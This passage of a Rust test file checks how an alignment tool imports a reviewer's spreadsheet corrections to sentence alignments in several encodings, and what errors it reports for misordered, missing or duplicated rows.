    assert_eq!(got.iter().filter(nonempty).count(), beads.iter().filter(nonempty).count());
}

fn cat(a: &str, b: &str) -> String {
    format!("{a} {b}")
}

#[test]
fn import_applies_the_reviewers_edits_in_every_encoding() {
    let (dir, rows, beads) = reviewed_fixture();
    // The first seven beads of the sample are 1-1, the eighth has both sides.
    assert!(beads[..7].iter().all(|(s, t)| s.len() == 1 && t.len() == 1), "{beads:?}");
    assert!(!beads[7].0.is_empty() && !beads[7].1.is_empty());
    let mut edited = rows.clone();
    let r = |bead: usize| bead + 1; // row of a bead in the sheet (header first)
    let mut want: Beads = Vec::new();
    // Beads 0 and 1: the target sentence of bead 1 moved up into bead 0.
    edited[r(0)][6] = cat(&rows[r(0)][6], &rows[r(1)][6]);
    edited[r(1)][6] = String::new();
    want.push((beads[0].0.clone(), [beads[0].1.clone(), beads[1].1.clone()].concat()));
    want.push((beads[1].0.clone(), vec![]));
    // Beads 2 and 3: the source sentence of bead 2 moved down into bead 3.
    edited[r(3)][5] = cat(&rows[r(2)][5], &rows[r(3)][5]);
    edited[r(2)][5] = String::new();
    want.push((vec![], beads[2].1.clone()));
    want.push(([beads[2].0.clone(), beads[3].0.clone()].concat(), beads[3].1.clone()));
    // Beads 4 and 5: the two rows joined into one, the second row deleted.
    edited[r(4)][5] = cat(&rows[r(4)][5], &rows[r(5)][5]);
    edited[r(4)][6] = cat(&rows[r(4)][6], &rows[r(5)][6]);
    want.push((
        [beads[4].0.clone(), beads[5].0.clone()].concat(),
        [beads[4].1.clone(), beads[5].1.clone()].concat(),
    ));
    // Bead 6: marked wrong in a status column.
    edited[0].push("status".into());
    for (n, row) in edited.iter_mut().enumerate().skip(1) {
        row.push(if n == r(6) {
            "wrong".into()
        } else if n % 2 == 0 {
            "ok".into()
        } else {
            String::new()
        });
    }
    want.push((beads[6].0.clone(), vec![]));
    want.push((vec![], beads[6].1.clone()));
    // Bead 7: both texts emptied (its numbers kept): wrong as well.
    edited[r(7)][5] = String::new();
    edited[r(7)][6] = String::new();
    want.push((beads[7].0.clone(), vec![]));
    want.push((vec![], beads[7].1.clone()));
    want.extend(beads[8..].iter().cloned());
    edited.remove(r(5));
    for how in SAVED {
        let got = import(dir.path(), &edited, how).unwrap_or_else(|e| panic!("{how:?}: {e}"));
        assert_eq!(vecalign(&got), want, "{how:?}");
    }
    // The corrected beads are a gold file for `tandem eval`.
    let gold = import(dir.path(), &edited, Saved::Utf8Csv).unwrap();
    std::fs::write(dir.path().join("gold.va"), &gold).unwrap();
    std::fs::write(dir.path().join("pred.tsv"), text(align(dir.path(), &[]))).unwrap();
    let eval = text(tandem(dir.path(), &["eval", "pred.tsv", "gold.va"]));
    assert!(eval.contains("calibration"), "{eval}");
}

#[test]
fn import_names_the_row_where_the_order_breaks() {
    let (dir, rows, _) = reviewed_fixture();
    let mut swapped = rows.clone();
    swapped.swap(3, 4);
    for how in SAVED {
        let err = import(dir.path(), &swapped, how).unwrap_err();
        assert!(err.contains("line 4: row 3: the source text"), "{how:?}: {err}");
        assert!(err.contains("it begins with sentence 4, so sentences 3..3 would be in no row"), "{err}");
    }
    let mut missing = rows.clone();
    missing.pop();
    let err = import(dir.path(), &missing, Saved::Utf8Csv).unwrap_err();
    assert!(err.contains("are in no row"), "{err}");
    let mut twice = rows.clone();
    twice.insert(3, rows[2].clone());
    let err = import(dir.path(), &twice, Saved::Utf8TsvBom).unwrap_err();
    assert!(err.contains("row 3:") && err.contains("which row 2 holds already"), "{err}");
    let err = import(dir.path(), &[vec!["a".into(), "b".into()]], Saved::Utf8Csv).unwrap_err();
    assert!(err.contains("src_text and tgt_text"), "{err}");
}
